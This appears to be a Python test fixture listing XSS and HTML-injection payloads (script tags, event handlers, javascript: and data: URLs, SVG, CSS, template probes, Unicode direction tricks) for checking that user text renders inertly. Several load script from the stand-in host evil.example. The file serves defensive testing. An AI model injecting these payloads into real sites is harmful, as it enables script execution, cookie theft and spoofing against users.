"""Hostile text that readers can type: each must show as text, never run or load.

Covers script tags, event handlers, `javascript:`/`data:`/`vbscript:` URLs, SVG and
MathML, CSS, broken and nested markup, template and attribute breakouts, Unicode
direction and invisible tricks, and payloads inside URLs that the link maker turns
into links. Every payload that could load something points at a foreign host
(evil.example), so a request there fails the test as surely as a dialog does.
"""

PAYLOADS: list[str] = [
    # Script tags
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<script type=module>import('https://evil.example/m.js')</script>",
    "<<script>alert(1);//<</script>",
    # Event handlers
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/p.png>",
    '<body onload="alert(1)">',
    '<div onmouseover="alert(1)">hover</div>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "<iframe src=https://evil.example/ onload=alert(1)></iframe>",
    # javascript:, data:, vbscript: URLs
    '<a href="javascript:alert(1)">click</a>',
    "javascript:alert(1)",
    "JaVaScRiPt:alert(document.cookie)",
    "java\tscript:alert(1)",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "data:text/html,<script>alert(1)</script>",
    '<a href="vbscript:msgbox(1)">x</a>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    # SVG and MathML
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><image href=https://evil.example/i.png />",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    # CSS
    "<style>body{background:url(https://evil.example/bg.png)}</style>",
    '<div style="background:url(https://evil.example/a.png)">x</div>',
    "<link rel=stylesheet href=https://evil.example/s.css>",
    '<div style="width:expression(alert(1))">x</div>',
    "@import url(https://evil.example/i.css);",
    # Broken and nested markup, breakouts
    "<b><i>unclosed",
    "</div></div></div></main><h1>Fake heading</h1>",
    "<!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<base href=https://evil.example/>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "{{ 7*7 }} {% debug %} ${7*7} #{7*7}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<a href='https://evil.example/'>an ordinary-looking link</a>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    # Unicode direction and invisible tricks
    "\u202egnp.exe\u202c harmless.png",
    "admin\u200b \u2066moderator\u2069",
    "\u202a\u202b\u202d\u202e nested direction \u202c\u202c\u202c\u202c",
    "\u0430dmin (Cyrillic a)",
    "\ufeffzero width no-break space",
    "e\u0301\u0301\u0301\u0301\u0301\u0301 combining marks",
    # Payloads inside URLs that the link maker turns into links
    'https://evil.example/"><script>alert(1)</script>',
    "https://example.org/?q=<img src=x onerror=alert(1)>",
    "https://example.org/path'onmouseover='alert(1)",
    'http://example.org/#"><svg onload=alert(1)>',
    "https://example.org/a)javascript:alert(1)",
    "https://evil.example/\u202e/moc.elpmaxe",
    "see https://example.org/x&quot;onclick=&quot;alert(1) now",
]
